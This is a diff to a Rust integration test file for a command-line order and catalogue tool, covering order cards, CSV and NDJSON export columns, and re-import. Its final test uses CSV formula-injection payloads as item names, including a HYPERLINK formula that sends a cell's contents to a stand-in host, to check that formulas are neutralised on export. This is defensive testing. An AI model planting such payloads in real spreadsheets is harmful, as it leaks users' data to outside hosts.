@@ -18,6 +18,14 @@ async fn orders_are_shipped_delivered_cancelled_and_summed_up() {
     alice.run(&["ship", "1"]).await.assert_fails(5, &["shipped", "hint"]);
     let delivered = alice.run(&["deliver", "1", "--output", "json"]).await.json();
     assert_eq!(delivered["status"], json!("delivered"));
+    let card = alice.run(&["order", "1", "--output", "json"]).await.json();
+    assert_eq!((&card["buyer_name"], &card["status"]), (&json!("Bob"), &json!("delivered")), "{card}");
+    let card = alice.run(&["order", "1"]).await.out;
+    assert!(card.contains("unit price  12.50 GBP") && !card.contains("seller"), "{card}");
+    alice.run(&["order", "99"]).await.assert_fails(3, &["99"]);
+    let card = alice.run(&["show", &lamp.to_string()]).await.out;
+    assert!(card.contains("Brass lantern") && card.contains("version") && !card.contains("seller"), "{card}");
+    alice.run(&["show", "99"]).await.assert_fails(3, &["99"]);
     alice.run(&["cancel", "2"]).await.assert_fails(2, &["--reason"]);
     let cancelled = alice.run(&["cancel", "2", "--reason", "cracked", "--output", "json"]).await.json();
     assert_eq!(
@@ -27,14 +35,14 @@ async fn orders_are_shipped_delivered_cancelled_and_summed_up() {
 
     let csv = alice.run(&["sales", "--status", "placed", "--output", "csv"]).await.out;
     let lines: Vec<_> = csv.lines().collect();
-    assert_eq!(lines[0].trim_end(), "order,item,name,units,total,status,buyer,seller,placed");
-    assert!(
-        lines.len() == 2 && lines[1].starts_with("3,1,Brass lantern,2,25.00 GBP,placed,Bob,Alice,"),
-        "{csv}"
-    );
+    let headings = "order_id,item_id,item_name,quantity,unit_price,unit_price_currency,total_price,\
+                    total_price_currency,status,buyer_name,buyer_id,";
+    assert!(lines[0].starts_with(headings), "{csv}");
+    let row = "3,1,Brass lantern,2,12.50,GBP,25.00,GBP,placed,Bob,";
+    assert!(lines.len() == 2 && lines[1].starts_with(row), "{csv}");
 
-    let days = alice.run(&["sales", "--summary", "--output", "json"]).await.json();
-    assert_eq!((&days[0]["order_count"], &days[0]["quantity"]), (&json!(2), &json!(5)), "{days}");
+    let days = alice.run(&["sales", "--summary", "--output", "json"]).await.rows();
+    assert_eq!((&days[0]["order_count"], &days[0]["quantity"]), (&json!(2), &json!(5)), "{days:?}");
     let items = alice.run(&["sales", "--summary", "item"]).await.out;
     assert!(items.contains("62.50 GBP") && items.contains('█'), "{items}");
     let long_ago = alice.run(&["sales", "--until", "2020-01-01"]).await;
@@ -89,6 +97,12 @@ async fn a_catalogue_is_imported_exported_and_imported_again() {
         let tally = alice.run(&["import", &out, "--output", "json"]).await.json();
         assert_eq!((&tally["rows"], &tally["unchanged_count"]), (&json!(3), &json!(3)), "{name}: {tally}");
     }
+    let exported = alice.run(&["export"]).await.out;
+    assert!(
+        exported.starts_with("sku,item_id,name,description,category,price,currency,quantity"),
+        "{exported}"
+    );
+    assert!(exported.contains("home,12.50,GBP,3"), "{exported}");
     let exported = alice.run(&["export", "--format", "ndjson"]).await.out;
     let piped = alice.type_in(&["import", "-", "--format", "ndjson", "--output", "json"], &exported).await;
     assert_eq!(piped.json()["unchanged_count"], json!(3));
@@ -118,8 +132,8 @@ async fn formulas_become_texts_and_come_back_from_an_export() {
         assert_eq!(csv_cells(file).find(runs), None, "{file}");
     }
     // The items have their own names, and the file leads to them again.
-    let items = alice.run(&["items", "--output", "json"]).await.json();
-    let names: Vec<_> = items.as_array().expect("a list").iter().map(|item| item["name"].clone()).collect();
+    let items = alice.run(&["items", "--output", "json"]).await.rows();
+    let names: Vec<_> = items.iter().map(|item| item["name"].clone()).collect();
     let expected = ["=HYPERLINK(\"http://example.test/?x=\"&A1,\"click\")", "+CALC", "=1"];
     assert_eq!(names, expected.map(|name| json!(name)));
     let tally = alice.run(&["import", &path("out.csv"), "--output", "json"]).await.json();
